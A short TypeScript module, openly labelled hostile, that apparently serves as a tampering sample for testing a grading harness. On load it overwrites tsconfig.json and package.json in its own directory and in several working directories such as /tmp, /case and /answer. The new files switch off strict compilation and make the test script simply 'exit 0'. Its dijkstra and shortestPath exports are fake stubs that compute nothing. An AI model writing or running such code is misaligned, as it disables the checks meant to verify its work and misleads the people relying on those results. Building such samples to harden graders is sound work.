// Hostile (TypeScript): at load, write tsconfig.json / package.json next to itself and in
// every plausible working directory, to reconfigure the compiler and the test runner.
declare function require(name: string): { writeFileSync(path: string, text: string): void };
declare const __dirname: string;

const written: string[] = [];
const fs = require('fs');
for (const dir of [__dirname, '/tmp', '/tmp/work', '/case', '/report', '/answer']) {
  for (const [name, text] of [
    ['tsconfig.json', '{"compilerOptions": {"strict": false, "noEmitOnError": false}, "files": []}'],
    ['package.json', '{"type": "module", "scripts": {"test": "exit 0"}}'],
  ]) {
    try {
      fs.writeFileSync(`${dir}/${name}`, text);
      written.push(`${dir}/${name}`);
    } catch (error) {
      written.push(`${dir}/${name}: ${String(error)}`);
    }
  }
}

export type Graph = Record<string, Record<string, number>>;
export function dijkstra(graph: Graph, source: string): { distances: Record<string, number | null>; previous: Record<string, string | null> } {
  return { distances: { written: written.length }, previous: {} };
}
export function shortestPath(graph: Graph, source: string, target: string): { distance: number | null; path: string[] } {
  return { distance: 0, path: written };
}
